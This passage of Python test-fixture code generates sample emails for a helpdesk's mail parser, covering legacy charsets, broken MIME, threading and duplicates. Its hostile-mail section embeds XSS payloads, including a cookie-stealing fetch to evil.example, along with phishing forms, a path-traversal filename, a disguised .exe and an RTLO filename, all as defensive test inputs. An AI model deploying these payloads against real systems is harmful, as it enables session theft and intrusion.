            "\u5fa1\u62c5\u5f53\u8005\u69d8\n\n\u30ea\u30b9\u30c8\u30a2\u304c 45% \u3067\u6b62\u307e\u308a\u307e\u3059\u3002\n\u30ed\u30b0\u3092\u78ba\u8a8d\u3057\u3066\u3044\u305f\u3060\u3051\u307e\u3059\u304b\u3002\n\n\u4f50\u85e4\n",
            "Shift_JIS body in base64",
        ),
        (
            "charsets/gb2312.eml",
            ("Wang Lei", "wanglei@cn-partner.example"),
            "gb2312",
            "base64",
            "\u4e91\u590d\u5236\u4efb\u52a1\u5931\u8d25",
            "\u60a8\u597d\uff0c\n\n\u6211\u4eec\u7684\u4e91\u590d\u5236\u4efb\u52a1\u4ece\u6628\u5929\u5f00\u59cb\u4e00\u76f4\u5931\u8d25\uff0c\u9519\u8bef\u4ee3\u7801 1450\u3002\n\u8bf7\u5e2e\u5fd9\u67e5\u770b\u3002\u8c22\u8c22\uff01\n\n\u738b\u78ca\n",
            "GB2312 body in base64, B-encoded subject",
        ),
        (
            "charsets/big5.eml",
            ("Chen Mei", "chenmei@tw-partner.example"),
            "big5",
            "8bit",
            "\u9084\u539f\u4f5c\u696d\u505c\u6b62",
            "\u60a8\u597d\uff0c\n\n\u9084\u539f\u4f5c\u696d\u5728\u767e\u5206\u4e4b\u516d\u5341\u4e8c\u6642\u505c\u6b62\u3002\u8acb\u5354\u52a9\u3002\u8b1d\u8b1d\uff01\n\n\u9673\u7f8e\n",
            "Big5 body sent as raw 8bit",
        ),
        (
            "charsets/koi8-r.eml",
            (
                "\u0418\u0433\u043e\u0440\u044c \u041f\u0435\u0442\u0440\u043e\u0432",
                "igor@ru-partner.example",
            ),
            "koi8-r",
            "8bit",
            "\u041e\u0448\u0438\u0431\u043a\u0430 \u0440\u0435\u0437\u0435\u0440\u0432\u043d\u043e\u0433\u043e \u043a\u043e\u043f\u0438\u0440\u043e\u0432\u0430\u043d\u0438\u044f",
            "\u0417\u0434\u0440\u0430\u0432\u0441\u0442\u0432\u0443\u0439\u0442\u0435!\n\n\u0420\u0435\u0437\u0435\u0440\u0432\u043d\u043e\u0435 \u043a\u043e\u043f\u0438\u0440\u043e\u0432\u0430\u043d\u0438\u0435 \u0441\u0435\u0440\u0432\u0435\u0440\u0430 FS01 \u0437\u0430\u0432\u0435\u0440\u0448\u0430\u0435\u0442\u0441\u044f \u043e\u0448\u0438\u0431\u043a\u043e\u0439 VSS.\n\u041f\u043e\u043c\u043e\u0433\u0438\u0442\u0435, \u043f\u043e\u0436\u0430\u043b\u0443\u0439\u0441\u0442\u0430.\n\n\u0418\u0433\u043e\u0440\u044c\n",
            "KOI8-R raw 8bit body, KOI8-R encoded display name and subject",
        ),
        (
            "charsets/windows-1251.eml",
            (
                "\u041e\u043b\u0435\u043d\u0430 \u041a\u043e\u0432\u0430\u043b\u044c",
                "olena@ua-partner.example",
            ),
            "windows-1251",
            "quoted-printable",
            "\u0410\u0433\u0435\u043d\u0442 \u043d\u0435 \u0432\u0441\u0442\u0430\u043d\u043e\u0432\u043b\u044e\u0454\u0442\u044c\u0441\u044f",
            "\u0414\u043e\u0431\u0440\u0438\u0439 \u0434\u0435\u043d\u044c!\n\n\u0410\u0433\u0435\u043d\u0442 \u0440\u0435\u0437\u0435\u0440\u0432\u043d\u043e\u0433\u043e \u043a\u043e\u043f\u0456\u044e\u0432\u0430\u043d\u043d\u044f \u043d\u0435 \u0432\u0441\u0442\u0430\u043d\u043e\u0432\u043b\u044e\u0454\u0442\u044c\u0441\u044f \u043d\u0430 Windows Server 2022.\n\n\u041e\u043b\u0435\u043d\u0430\n",
            "Windows-1251 (Ukrainian) quoted-printable",
        ),
        (
            "charsets/euc-kr.eml",
            ("Kim Minjun", "minjun@kr-partner.example"),
            "euc-kr",
            "base64",
            "\uc800\uc7a5\uc18c \uc6a9\ub7c9 \ubd80\uc871",
            "\uc548\ub155\ud558\uc138\uc694.\n\n\uc5b4\ud50c\ub77c\uc774\uc5b8\uc2a4 \uc800\uc7a5\uc18c\uac00 \uac00\ub4dd \ucc3c\uc2b5\ub2c8\ub2e4.\n\ubcf4\uc874 \uc815\ucc45\uc774 \uc791\ub3d9\ud558\uc9c0 \uc54a\ub294 \uac83 \uac19\uc2b5\ub2c8\ub2e4.\n\n\uae40\ubbfc\uc900\n",
            "EUC-KR body in base64",
        ),
        (
            "charsets/gb18030.eml",
            ("Li Na", "lina@cn-partner.example"),
            "gb18030",
            "base64",
            "\u4ee3\u7406\u5b89\u88c5\u95ee\u9898",
            "\u4f60\u597d\uff0c\n\n\u4ee3\u7406\u5728 Windows 11 \u4e0a\u5b89\u88c5\u5931\u8d25\uff0c\u9519\u8bef 1603\u3002\n\n\u674e\u5a1c\n",
            "GB18030 body in base64",
        ),
    ]
    for f, frm, cs, cte, subj, text, note in specs:
        add(
            f,
            thunderbird(
                f,
                frm,
                "@@SUBJ@@",
                text,
                charset=cs.upper() if cs != "shift_jis" else "Shift_JIS",
                cte=cte,
                flowed=False,
                raw_body=(text.encode(cs).decode("latin-1") if cte in ("7bit", "8bit") else None),
            )
            .replace(
                "Subject: @@SUBJ@@\n",
                f"Subject: {ew(subj, cs.upper() if cs != 'shift_jis' else 'Shift_JIS', 'B', 10)}\n",
                1,
            )
            .replace(
                f"From: {addr(frm)}\n",
                f"From: {addr(frm, cs.upper() if cs != 'shift_jis' else 'Shift_JIS', 'B')}\n",
                1,
            ),
            "created",
            note,
        )

    f = "charsets/iso-8859-2.eml"
    piotr = ("Piotr Nowak", "piotr@acme.example")
    text = (
        "Dzie\u0144 dobry,\n\nprzywracanie nadal zatrzymuje si\u0119 na 62%. Czy s\u0105 jakie\u015b post\u0119py?\n\n"
        "Z powa\u017caniem\nPiotr Nowak\n"
    )
    add(
        f,
        thunderbird(
            f,
            piotr,
            f"Re: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            text,
            charset="ISO-8859-2",
            cte="quoted-printable",
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
        ).replace(
            f"Subject: Re: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}\n",
            "Subject: Re: [{{NUMBER_B}}] "
            + ew("Przywr\u00f3cenie zatrzymuje si\u0119", "ISO-8859-2", "Q", 40)
            + "\n",
            1,
        ),
        "appended",
        "ISO-8859-2 (Polish) QP reply from someone at the company domain; subject token outside the encoded word",
        ticket="B",
    )

    f = "charsets/utf-7.eml"
    text = "Hallo,\n\nder Agent meldet \u201eZugriff verweigert\u201c beim Wiederherstellen. Gr\u00fc\u00dfe, Kai\n"
    add(
        f,
        plain_mua(
            f,
            ("Kai Vogel", "kai@de-partner.example"),
            "=?UTF-7?Q?Zugriff_verweigert_+AOQ-rger?=",
            [],
            ctype="text/plain; charset=UTF-7",
            cte="7bit",
            body=text.encode("utf-7").decode("ascii"),
            mailer="Microsoft Outlook Express 6.00.2900.5512",
        ),
        "created",
        "UTF-7 body and subject (legacy Outlook Express)",
    )

    f = "charsets/unknown-8bit.eml"
    add(
        f,
        plain_mua(
            f,
            (
                "Fran\u00e7ois Dubois".encode("latin-1").decode("latin-1"),
                "francois@fr-partner.example",
            ),
            "Probl\xe8me de sauvegarde",
            [],
            ctype="text/plain; charset=unknown-8bit",
            cte="8bit",
            body=raw8(
                "Bonjour,\n\nla sauvegarde \u00e9choue depuis la mise \u00e0 jour. Merci d'avance.\n\nFran\u00e7ois\n",
                "latin-1",
            ),
            mailer="Mutt/2.2.12 (2023-09-09)",
        ),
        "created",
        "charset=unknown-8bit body, raw 8-bit latin-1 Subject and display name",
    )

    f = "charsets/mislabelled-01.eml"
    add(
        f,
        plain_mua(
            f,
            ("Fran\u00e7ois Dubois", "francois@fr-partner.example"),
            "=?iso-8859-1?Q?Restauration_lente?=",
            [],
            ctype="text/plain; charset=iso-8859-1",
            cte="8bit",
            body=raw8(
                "Bonjour,\n\nla restauration d\u00e9marre puis ralentit \u00e0 2 Mo/s \u2013 est-ce normal ?\n\nFran\u00e7ois\n",
                "utf-8",
            ),
            mailer="Mutt/2.2.12 (2023-09-09)",
        ),
        "created",
        "Declared iso-8859-1 but the body is UTF-8 (mojibake expected, nothing lost)",
    )

    f = "charsets/mislabelled-02.eml"
    add(
        f,
        plain_mua(
            f,
            ("Ops", "ops@fr-partner.example"),
            "Job report",
            [],
            ctype="text/plain; charset=us-ascii",
            cte="7bit",
            body=raw8(
                "Report \u2014 \u201cFS01\u201d failed, cost \u20ac0. Caf\u00e9 server OK.\n",
                "cp1252",
            ),
            mailer="Perl Mail::Sendmail",
        ),
        "created",
        "Declared us-ascii 7bit but contains windows-1252 8-bit bytes",
    )


def hostile_folder() -> None:
    H = ("Hostile Tester", "hacker@unknown-corp.example")
    f = "hostile/script-01.eml"
    htm = html_doc(
        "<p>Hello <script>alert(document.cookie)</script></p>"
        '<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">'
        '<a href="javascript:alert(1)">click for the log</a> '
        '<a href="JaVaScRiPt&#58;alert(2)">obfuscated</a> <a href=" javascript:alert(3)">leading space</a>'
        '<div onmouseover="alert(4)">hover</div><body onload="alert(5)">'
    )
    add(
        f,
        thunderbird(f, H, "Backup log viewer question", "Hello, see the HTML part.\n", html=htm),
        "created",
        "HTML with <script>, onerror, onmouseover, onload and javascript: links (plain and obfuscated)",
        attachments=0,
    )

    f = "hostile/iframe-01.eml"
    htm = html_doc(
        '<iframe src="https://evil.example/phish"></iframe>'
        '<div style="width:expression(alert(1));background:url(javascript:alert(2))">css</div>'
        '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'
        '<form action="https://evil.example/login"><input name="password" type="password"></form>'
        "<svg><script>alert(3)</script></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(6)>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n<style>@import url(https://evil.example/x.css);</style>\n',
    )
    add(
        f,
        thunderbird(f, H, "Restore portal login page", "See HTML.\n", html=htm),
        "created",
        "iframe, CSS expression(), object/embed, password form, meta refresh, mXSS snippet",
        attachments=0,
    )

    f = "hostile/path-traversal-01.eml"
    add(
        f,
        raw_mail(
            f,
            H,
            "Config file for the agent",
            tb_mixed(
                f,
                [
                    tb_text("Config attached.\n"),
                    att(
                        'text/plain; name="../../etc/passwd"',
                        'attachment; filename="../../etc/passwd"',
                        b"root:x:0:0:root:/root:/bin/bash\n",
                    ),
                ],
            ),
        ),
        "created",
        "Attachment filename ../../etc/passwd (must be stored under a safe name)",
        attachments=1,
    )

    f = "hostile/double-ext-01.eml"
    add(
        f,
        raw_mail(
            f,
            ("Accounts", "billing@unknown-corp.example"),
            "Invoice for the appliance renewal",
            tb_mixed(
                f,
                [
                    tb_text("Please find the invoice attached.\n"),
                    att(
                        'application/pdf; name="invoice.pdf.exe"',
                        'attachment; filename="invoice.pdf.exe"',
                        b"MZ\x90\x00" + hbytes(f, 200),
                    ),
                ],
            ),
        ),
        "created",
        "invoice.pdf.exe declared as application/pdf",
        attachments=1,
    )

    f = "hostile/html-filename-01.eml"
    add(
        f,
        raw_mail(
            f,
            H,
            "Screenshot",
            tb_mixed(
                f,
                [
                    tb_text("Screenshot attached.\n"),
                    att(
                        'image/png; name="<img src=x onerror=alert(1)>.png"',
                        'attachment; filename="<img src=x onerror=alert(1)>.png"',
                        png(f),
                    ),
                ],
            ),
        ),
        "created",
        "Attachment named <img src=x onerror=alert(1)>.png (escaped when listed)",
        attachments=1,
    )

    f = "hostile/rtlo-01.eml"
    add(
        f,
        raw_mail(
            f,
            H,
            "Quarterly report",
            tb_mixed(
                f,
                [
                    tb_text("Report attached.\n"),
                    att(
                        "application/octet-stream; name*=utf-8''report%E2%80%AEfdp.exe",
                        "attachment; filename*=utf-8''report%E2%80%AEfdp.exe",
                        b"MZ\x90\x00" + hbytes(f, 120),
                    ),
                ],
            ),
        ),
        "created",
        "RFC 2231 filename with U+202E RIGHT-TO-LEFT OVERRIDE (reportexe.pdf lookalike)",
        attachments=1,
    )

    f = "hostile/zero-byte-01.eml"
    add(
        f,
        raw_mail(
            f,
            H,
            "Empty log file?",
            tb_mixed(
                f,
                [
                    tb_text("The agent wrote an empty log, attached.\n"),
                    Leaf(
                        [
                            ("Content-Type", 'text/plain; charset=UTF-8; name="agent.log"'),
                            ("Content-Disposition", 'attachment; filename="agent.log"'),
                            ("Content-Transfer-Encoding", "base64"),
                        ],
                        "",
                    ),
                ],
            ),
        ),
        "created",
        "0-byte attachment",
        attachments=1,
    )

    f = "hostile/lying-type-01.eml"
    add(
        f,
        raw_mail(
            f,
            H,
            "Chart of failed jobs",
            tb_mixed(
                f,
                [
                    tb_text("Chart attached.\n"),
                    att(
                        'image/png; name="chart.png"',
                        'attachment; filename="chart.png"',
                        b"<html><body><script>alert(document.domain)</script></body></html>\n",
                    ),
                ],
            ),
        ),
        "created",
        "image/png attachment whose bytes are HTML with a script (no sniffing into text/html)",
        attachments=1,
    )

    f = "hostile/svg-01.eml"
    svg = (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b'<script>alert(document.cookie)</script><a xlink:href="javascript:alert(2)" xmlns:xlink="http://www.w3.org/1999/xlink">'
        b'<text x="10" y="20">diagram</text></a></svg>\n'
    )
    add(
        f,
        raw_mail(
            f,
            H,
            "Network diagram",
            tb_mixed(
                f,
                [
                    tb_text(
                        "Diagram of the backup network attached: javascript:alert(1)\n"
                        "Also see <script>alert('plain')</script> and https://evil.example/\"><svg/onload=alert(7)>\n"
                    ),
                    att(
                        'image/svg+xml; name="diagram.svg"',
                        'attachment; filename="diagram.svg"',
                        svg,
                    ),
                ],
            ),
        ),
        "created",
        "SVG attachment with script/onload; plain text containing markup that must be escaped",
        attachments=1,
    )

    f = "hostile/reply-a-01.eml"
    add(
        f,
        thunderbird(
            f,
            ('<script>alert("name")</script>', "ivan@initech.example"),
            "Re: [{{NUMBER_A}}] <img src=x onerror=alert(1)> still failing",
            "The job is still failing. <b>bold?</b> <script>alert('body')</script>\n\nIvan\n",
        ),
        "appended",
        "Requester (display name is a script tag) replies on A by subject token; subject and body carry markup",
        ticket="A",
        attachments=0,
    )


def broken_folder() -> None:
    K = ("Kurt Broken", "kurt@unknown-corp.example")

    f = "broken/missing-end-boundary.eml"
    node = tb_mixed(
        f,
        [
            tb_text("Agent log attached; my mail server likes to cut the end.\n"),
            att(
                'text/plain; charset=UTF-8; name="agent.log"',
                'attachment; filename="agent.log"',
                agent_log(f, 8),
            ),
        ],
    )
    node.close = False
    add(
        f,
        raw_mail(f, K, "Agent log (mail cut short)", node),
        "created",
        "multipart/mixed without the closing --boundary-- line",
        attachments=1,
    )

    f = "broken/bad-base64-padding.eml"
    body = (
        base64.b64encode(b"Hello,\r\nthe restore of D:\\Shares fails after 2 hours.\r\nKurt\r\n")
        .decode()
        .rstrip("=")
    )
    add(
        f,
        raw_mail(
            f,
            K,
            "Restore of D: fails after 2 hours",
            Leaf(
                [
                    ("Content-Type", "text/plain; charset=UTF-8"),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                body + "\n",
            ),
        ),
        "created",
        "base64 text body with the '=' padding stripped",
        eol="\n",
    )

    f = "broken/wrong-charset.eml"
    add(
        f,
        raw_mail(
            f,
            ("J\u00fcrgen Wei\u00df", "juergen@unknown-corp.example"),
            "Sicherung fehlgeschlagen",
            Leaf(
                [
                    ("Content-Type", "text/plain; charset=utf-8"),
                    ("Content-Transfer-Encoding", "8bit"),
                ],
                raw8(
                    "Hallo,\n\ndie Sicherung schl\u00e4gt seit Montag fehl. Gr\u00fc\u00dfe, J\u00fcrgen\n",
                    "latin-1",
                ),
            ),
        ),
        "created",
        "Declared utf-8, body bytes are latin-1 (invalid UTF-8 sequences)",
    )

    f = "broken/8bit-headers.eml"
    add(
        f,
        raw_mail(
            f,
            ("J\u00fcrgen Wei\u00df", "juergen.weiss@unknown-corp.example"),
            raw8("Wiederherstellung h\u00e4ngt bei 99\u202f%", "utf-8"),
            tb_text("Die Wiederherstellung h\u00e4ngt bei 99 %.\n", cte="8bit"),
            from_h=raw8("J\u00fcrgen Wei\u00df <juergen.weiss@unknown-corp.example>", "utf-8"),
        ),
        "created",
        "Raw UTF-8 bytes in Subject and From (no RFC 2047)",
    )

    f = "broken/no-content-type.eml"
    add(
        f,
        plain_mua(
            f,
            K,
            "No content type at all",
            [],
            ctype="",
            cte="",
            body="Hello,\n\nmy script sends mail without MIME headers. Backups fail on NAS02.\n",
            mailer="",
        )
        .replace("Content-Type: \n", "")
        .replace("Content-Transfer-Encoding: \n", "")
        .replace("User-Agent: \n", ""),
        "created",
        "MIME-Version present but no Content-Type / Content-Transfer-Encoding",
        eol="\n",
    )

    f = "broken/mbox-from-line.eml"
    dt = tick()
    text = plain_mua(
        f,
        K,
        "Copied out of my mbox",
        [],
        dt=dt,
        body="Hello,\n\nthis was saved from an mbox file. The appliance web UI is slow.\n\nKurt\n",
        mailer="Mutt/2.2.12 (2023-09-09)",
        ctype="text/plain; charset=us-ascii",
    )
    t = dt.astimezone(UTC)
    add(
        f,
        f"From kurt@unknown-corp.example {DOW[t.weekday()]} {MON[t.month - 1]} {t.day:2d} {t:%H:%M:%S} {t.year}\n"
        + text,
        "created",
        "Begins with an mbox 'From ' envelope line",
        eol="\n",
    )

    f = "broken/cr-only.eml"
    add(
        f,
        plain_mua(
            f,
            ("Mac Classic", "classic@unknown-corp.example"),
            "Old Mac client: backup question",
            [],
            body="Hello,\n\nthis mail uses bare CR line endings like classic Mac OS.\nCan I still back up to the appliance?\n",
            mailer="Eudora/4.3.2",
            ctype="text/plain; charset=us-ascii",
        ),
        "created",
        "Bare CR line endings throughout",
        eol="\r",
    )

    f = "broken/no-mime-version.eml"
    node = tb_mixed(
        f,
        [
            tb_text("Attachment below, sent by a script that forgot MIME-Version.\n"),
            att(
                'text/csv; name="jobs.csv"',
                'attachment; filename="jobs.csv"',
                b"job,status\r\nFS-Daily,Failed\r\n",
            ),
        ],
    )
    txt = raw_mail(f, K, "Job export", node, mailer="backup-report.sh").replace(
        "MIME-Version: 1.0\n", ""
    )
    add(f, txt, "created", "multipart/mixed without MIME-Version", attachments=1)

    f = "broken/mixed-eol.eml"
    txt = raw_mail(
        f,
        K,
        "Mixed line endings",
        tb_text("Line one.\nLine two, from a Windows tool.\nLine three.\n"),
    )
    data = txt.replace("\n", "\r\n").encode("latin-1")
    data = data.replace(
        b"Line two, from a Windows tool.\r\n", b"Line two, from a Windows tool.\n"
    ).replace(b"Content-Language: en-US\r\n", b"Content-Language: en-US\n")
    add(f, data, "created", "CRLF file with a few bare LF lines (in a header and in the body)")

    f = "broken/bad-qp.eml"
    add(
        f,
        raw_mail(
            f,
            K,
            "Quoted-printable gone wrong",
            Leaf(
                [
                    ("Content-Type", "text/plain; charset=iso-8859-1"),
                    ("Content-Transfer-Encoding", "quoted-printable"),
                ],
                "Hello,=20\nthe restore =ZZ fails with =E9rror 5 (=ACCESS DENIED).\nA soft break at the end=\nof the line, and a line ending in an equals sign =\n\nKurt\n",
            ),
        ),
        "created",
        "Quoted-printable with invalid escapes (=ZZ, =AC...), stray soft breaks",
    )

    f = "broken/bad-date.eml"
    txt = plain_mua(
        f,
        K,
        "Date header is nonsense",
        [
            "Hello,",
            "",
            "our mail gateway rewrites the Date header. Backups fail on HV02.",
            "",
            "Kurt",
        ],
    )
    txt = re.sub(r"\nDate: [^\n]+\n", "\nDate: yesterday afternoon, probably\n", txt, count=1)
    add(f, txt, "created", "Unparseable Date header")

    f = "broken/multipart-no-boundary.eml"
    add(
        f,
        plain_mua(
            f,
            K,
            "Multipart without boundary",
            [],
            ctype="multipart/mixed",
            cte="7bit",
            body="Hello,\n\nthe sending tool declared multipart/mixed but no boundary. Backups on FS03 fail.\n\nKurt\n",
            mailer="ancient-mailer 0.9",
        ),
        "created",
        "Content-Type multipart/mixed with no boundary parameter: read as text",
    )

    f = "broken/duplicate-headers.eml"
    txt = raw_mail(
        f,
        K,
        "First subject",
        tb_text(
            "Two Subject headers and two Content-Type headers.\nAppliance alert e-mails not arriving.\n"
        ),
    )
    txt = txt.replace(
        "Subject: First subject\n", "Subject: First subject\nSubject: Second subject\n"
    ).replace(
        "Content-Type: text/plain; charset=UTF-8; format=flowed\n",
        "Content-Type: text/plain; charset=UTF-8; format=flowed\nContent-Type: text/html\n",
        1,
    )
    add(f, txt, "created", "Duplicate Subject and Content-Type headers")

    f = "broken/long-header-lines.eml"
    refs = " ".join(f"<{hx(f + str(i), 24)}@unknown-corp.example>" for i in range(40))
    txt = raw_mail(
        f,
        K,
        "Unfolded References over 998 octets",
        tb_text("Our gateway unfolds all headers.\nAgent upgrade keeps failing.\n"),
        extra=[("X-Long", "a" * 1200), ("X-Refs-Copy", refs)],
    )
    add(
        f,
        txt,
        "created",
        "Header lines longer than 998 octets (unfolded) with non-matching References",
    )

    f = "broken/reply-a-missing-boundary.eml"
    b = "------------" + an(f, 24)
    node = Multi(
        [("Content-Type", f'multipart/alternative; boundary="{b}"')],
        b,
        [
            tb_text("The job failed again at 01:10.\n\nIvan\n"),
            Leaf(
                [
                    ("Content-Type", "text/html; charset=UTF-8"),
                    ("Content-Transfer-Encoding", "7bit"),
                ],
                "<p>The job failed again at 01:10.</p><p>Ivan</p>",
            ),
        ],
        close=False,
    )
    add(
        f,
        raw_mail(
            f,
            IVAN,
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            node,
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
        ),
        "appended",
        "Reply on A whose multipart/alternative never closes",
        ticket="A",
    )


def threading_folder() -> None:
    f = "threading/in-reply-to-only.eml"
    add(
        f,
        thunderbird(
            f,
            IVAN,
            "Re: your e-mail",
            "Yes, the server was rebooted at 22:00.\n\nIvan\n",
            irt=msgid_ref("A"),
        ),
        "appended",
        "In-Reply-To carries our id, no References, subject without token",
        ticket="A",
    )

    f = "threading/references-middle.eml"
    add(
        f,
        thunderbird(
            f,
            ALICE,
            "Re: Re: restore",
            "Following up on the thread below.\n\nAlice\n",
            refs=f"{foreign_id(f + '1')}\n {msgid_ref('B')}\n {foreign_id(f + '2')}",
            irt=foreign_id(f + "2"),
        ),
        "appended",
        "References lists a foreign id, then ours for B, then another foreign id (also In-Reply-To)",
        ticket="B",
    )

    f = "threading/subject-token-a.eml"
    add(
        f,
        plain_mua(
            f,
            IVAN,
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            [
                "Hello,",
                "",
                "Replying from the web mail which drops threading headers.",
                "The job is still failing.",
                "",
                "Ivan",
            ],
        ),
        "appended",
        "Only the subject token links the mail to A",
        ticket="A",
    )

    f = "threading/subject-token-b.eml"
    add(
        f,
        outlook(
            f,
            NORA,
            f"SV: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "Hej,\n\nwe checked the NAS: no errors in its log.\n" + SIG["nora"],
            lang="sv-SE",
        ),
        "appended",
        "Subject token with a Scandinavian 'SV:' prefix, no threading headers, partner tech",
        ticket="B",
    )

    f = "threading/reply-to-address-to.eml"
    add(
        f,
        thunderbird(
            f,
            IVAN,
            "More information",
            "Adding the event log lines you asked for:\n\nEvent 8229 SQLWRITER\n\nIvan\n",
            to=[("Infrascale Support", "{{REPLY_TO_A}}")],
        ),
        "appended",
        "Addressed to the ticket's reply address (To), no token, no threading headers",
        ticket="A",
    )

    f = "threading/reply-to-address-cc.eml"
    add(
        f,
        gmail(
            f,
            ERIN,
            "Escalated to development",
            "Hi Ivan,\n\nI escalated the VSS issue to our developers.\n" + SIG["erin"],
            to=[IVAN],
            cc=[("", "{{REPLY_TO_A}}")],
            workspace=True,
        ),
        "appended",
        "Vendor engineer mails the customer and puts the ticket's reply address in Cc",
        ticket="A",
    )

    f = "threading/forged-id.eml"
    add(
        f,
        thunderbird(
            f,
            IVAN,
            "Re: backup",
            "Is this still being looked at?\n\nIvan\n",
            irt="<{{FORGED_MSGID_A}}>",
            refs="<{{FORGED_MSGID_A}}>",
        ),
        "created",
        "In-Reply-To has an id shaped like ours for A with a bad signature: not threaded, new ticket",
    )

    f = "threading/forged-id-with-token.eml"
    add(
        f,
        thunderbird(
            f,
            IVAN,
            "Re: [{{NUMBER_A}}] status?",
            "Any news on this one?\n\nIvan\n",
            irt="<{{FORGED_MSGID_A}}>",
        ),
        "appended",
        "Forged id is ignored but the subject token still threads to A",
        ticket="A",
    )

    f = "threading/foreign-id.eml"
    add(
        f,
        gmail(
            f,
            BOB,
            "Re: appliance quote",
            "Did you get my earlier mail?\n\nBob\n",
            irt="<random@mail.gmail.com>",
            refs="<random@mail.gmail.com>",
        ),
        "created",
        "In-Reply-To is a guessed foreign id (<random@mail.gmail.com>): new ticket",
    )

    f = "threading/nonexistent-ticket.eml"
    add(
        f,
        thunderbird(
            f, IVAN, "Re: [SD-999999] Restore failing", "Following up on the old ticket.\n\nIvan\n"
        ),
        "created",
        "Subject token for a ticket that does not exist: new ticket",
    )

    f = "threading/token-beats-nothing-id-wins.eml"
    add(
        f,
        thunderbird(
            f,
            IVAN,
            "Re: [{{NUMBER_B}}] wrong ticket in subject",
            "Replying to the A thread but my subject says B.\n\nIvan\n",
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
        ),
        "appended",
        "In-Reply-To points to A, subject token to B: the header id wins (rule order)",
        ticket="A",
    )

    f = "threading/new-01.eml"
    add(
        f,
        thunderbird(
            f,
            BOB,
            "Appliance will not join the domain",
            "Hello,\n\nThe appliance fails to join our AD domain with 'RPC server unavailable'.\n\nBob\n",
        ),
        "created",
        "New ticket that later files of this folder reply to",
    )

    f = "threading/reply-new-01-irt.eml"
    add(
        f,
        thunderbird(
            f,
            BOB,
            "Re: Appliance will not join the domain",
            "DNS points to the DC, I checked.\n\nBob\n",
            irt=of("threading/new-01.eml"),
            refs=of("threading/new-01.eml"),
        ),
        "appended",
        "Reply to the ack of a ticket created earlier in this batch",
        ticket="@threading/new-01.eml",
    )

    f = "threading/reply-new-01-token.eml"
    add(
        f,
        plain_mua(
            f,
            BOB,
            f"Re: [{num_of('threading/new-01.eml')}] Appliance will not join the domain",
            ["Also: the appliance clock is 7 minutes off.", "", "Bob"],
        ),
        "appended",
        "Subject token of a ticket created earlier in this batch",
        ticket="@threading/new-01.eml",
    )

    f = "threading/reply-new-02-refs.eml"
    add(
        f,
        outlook(
            f,
            NORA,
            "RE: Restore of Exchange mailbox hangs at 45%",
            "Hello,\n\nNorthwind here: we see the same on the Acme Exchange VM.\n" + SIG["nora"],
            refs=f"{of('outlook/new-02.eml')}",
            irt=None,
        ),
        "appended",
        "References-only reply (no In-Reply-To) by the partner tech to Alice's ticket from outlook/",
        ticket="@outlook/new-02.eml",
    )

    f = "threading/emacs-style-irt.eml"
    add(
        f,
        plain_mua(
            f,
            IVAN,
            "Re: VSS",
            ["Thanks, trying that tonight.", "", "Ivan"],
            mailer="Gnus/5.13 (Gnus v5.13)",
            headers=[
                (
                    "In-Reply-To",
                    f'{msgid_ref("A")} (Infrascale Support\'s message of "Mon, 2 Jun 2025 08:12:40 +0000")',
                )
            ],
        ),
        "appended",
        "Old-style In-Reply-To with a trailing comment after the id",
        ticket="A",
    )


def duplicates_folder() -> None:
    f = "duplicates/dup-01a.eml"
    first = gmail(
        f,
        ("Sam Someone", "someone@gmail.com"),
        "Agent update broke scheduling",
        "Hi,\n\nAfter the 8.6.2 update none of my schedules run.\n\nSam\n",
    )
    add(f, first, "created", "Original of a message delivered twice")
    add(
        "duplicates/dup-01b.eml",
        first,
        "duplicate",
        "Byte-identical second delivery of dup-01a",
        ticket="@duplicates/dup-01a.eml",
    )

    f = "duplicates/dup-02a.eml"
    m = outlook(
        f,
        IVAN,
        "Licence renewal question",
        "Hi,\n\nDoes the renewal include the cloud storage add-on?\n" + SIG["ivan"],
        cc=[("IT Team", "it-team@initech.example")],
    )
    add(f, m, "created", "Original; Cc includes a list that also forwards to support")
    m2 = m.replace(
        "Delivered-To: support@desk.example\n",
        "Delivered-To: support@desk.example\nX-Original-To: it-team@initech.example\n",
        1,
    )
    m2 = re.sub(
        r"(with ESMTPS id )4b(\w+)", lambda mm: mm.group(1) + "4c" + mm.group(2)[::-1], m2, count=1
    )
    m2 = m2.replace(
        "Received: from mx1.desk.example\n\tby imap1.desk.example with LMTP",
        "Received: from lists.initech.example (lists.initech.example [198.51.100.77])\n\tby mx1.desk.example (Postfix) with ESMTPS id 4bQz81kLmN0p\n\tfor <support@desk.example>; Mon,  2 Jun 2025 12:00:03 +0000 (UTC)\n"
        "Received: from mx1.desk.example\n\tby imap1.desk.example with LMTP",
        1,
    )
    add(
        "duplicates/dup-02b.eml",
        m2,
        "duplicate",
        "Same Message-ID arriving by a second path (different Received headers)",
        ticket="@duplicates/dup-02a.eml",
    )

    f = "duplicates/noid-03a.eml"
    m = plain_mua(
        f,
        ("Cron Daemon", "root@nas01.unknown-corp.example"),
        "NAS01 backup script output",
        [
            "rsync: connection unexpectedly closed (0 bytes received so far) [sender]",
            "rsync error: error in rsync protocol data stream (code 12)",
        ],
        msgid=False,
        mailer="",
    )
    m = m.replace("User-Agent: \n", "")
    add(
        f, m, "created", "No Message-ID, CRLF copy (a cron mail without Auto-Submitted)", eol="\r\n"
    )
    add(
        "duplicates/noid-03b.eml",
        m,
        "duplicate",
        "Same bytes as noid-03a but LF line endings: identical after normalisation",
        eol="\n",
        ticket="@duplicates/noid-03a.eml",
    )

    f = "duplicates/dup-04a.eml"
    r = thunderbird(
        f,
        IVAN,
        f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
        "Attaching nothing, just confirming the reboot.\n\nIvan\n",
        irt=msgid_ref("A"),
        refs=msgid_ref("A"),
    )
